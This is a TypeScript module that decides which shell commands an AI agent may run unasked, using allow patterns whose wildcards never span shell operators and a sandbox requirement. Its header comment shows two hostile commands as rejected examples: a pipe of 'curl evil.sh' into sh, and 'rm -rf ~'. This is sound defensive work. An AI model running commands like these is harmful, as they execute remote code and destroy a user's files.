// Which commands an agent may run without asking: the `commands` policy and its allow patterns. Pure.
//
// A pattern matches a command when, after both are trimmed and every run of spaces and tabs is made
// one space, they are equal, where each `*` in the pattern stands for any run of characters (also
// none) that holds NO shell operator: `;`, `&`, `|`, `<`, `>`, a backtick, `$(`, or a line break. A
// pattern ending in ` *` also matches the command without that last word (`npm test *` matches
// `npm test` and `npm test -- --grep x`). So an operator in a command must be matched by the same
// operator written in the pattern: `npm test*` does not match `npm test && curl evil.sh | sh`, and
// `npm run *` does not match `npm run build; rm -rf ~`, while the pattern `npm test 2>&1` matches
// exactly that command.

import type { CommandPolicy } from '../config';

/** What makes a command line more than one simple command, or redirects it. A `*` never spans one. */
const OPERATOR = /[;&|<>`\n\r]|\$\(/;
const WILD = '(?:(?!\\$\\()[^;&|<>`\\n\\r])*';

/** A command as patterns see it: trimmed, with runs of spaces and tabs made one space (line breaks kept). */
export function normaliseCommand(command: string): string {
  return command.trim().replace(/[ \t]+/g, ' ');
}

export function hasShellOperator(command: string): boolean {
  return OPERATOR.test(command);
}

function patternRegExp(pattern: string): RegExp {
  const p = normaliseCommand(pattern);
  const optionalLast = p.endsWith(' *');
  const body = optionalLast ? p.slice(0, -2) : p;
  const source = body.split('*').map(escapeRegExp).join(WILD) + (optionalLast ? `(?: ${WILD})?` : '');
  return new RegExp(`^${source}$`);
}

export function matchesPattern(command: string, pattern: string): boolean {
  if (!normaliseCommand(pattern)) return false;
  return patternRegExp(pattern).test(normaliseCommand(command));
}

/** The first allow pattern that matches `command`, if any. */
export function allowingPattern(command: string, allow: readonly string[]): string | undefined {
  return allow.find((p) => matchesPattern(command, p));
}

export type PolicyVerdict =
  | { kind: 'allowed'; reason: string }
  | { kind: 'denied'; reason: string }
  /** Only the user can decide (run: "ask", and no pattern allows it; or no sandbox would confine it). `why`: what made it a question, when not plain `ask`. */
  | { kind: 'ask'; why?: string };

/**
 * What the policy alone says about `command` (before anybody is asked). `sandboxed`: whether it would
 * run in a sandbox. Without one, nothing runs unasked (what the policy would allow is asked) unless the
 * user chose `commands.sandbox: "off"`.
 */
export function policyVerdict(policy: Pick<CommandPolicy, 'run' | 'allow' | 'sandbox'>, command: string, sandboxed: boolean): PolicyVerdict {
  if (policy.run === 'never') return { kind: 'denied', reason: 'commands are turned off (commands.run is "never")' };
  const verdict = writtenVerdict(policy, command);
  if (verdict.kind === 'allowed' && !sandboxed && policy.sandbox !== 'off') return { kind: 'ask', why: `no sandbox would confine it, so it is asked although ${verdict.reason}` };
  return verdict;
}

/** The policy as written: `run` and the allow patterns. */
function writtenVerdict(policy: Pick<CommandPolicy, 'run' | 'allow'>, command: string): PolicyVerdict {
  if (policy.run === 'always') return { kind: 'allowed', reason: 'commands.run is "always": every command runs' };
  const pattern = allowingPattern(command, policy.allow);
  if (pattern !== undefined) return { kind: 'allowed', reason: `it matches the allow pattern ${JSON.stringify(pattern)}` };
  if (policy.run === 'allowed') return { kind: 'denied', reason: 'it matches no pattern of commands.allow, and commands.run is "allowed" (nobody is asked)' };
  return { kind: 'ask' };
}

function escapeRegExp(s: string): string {
  return s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
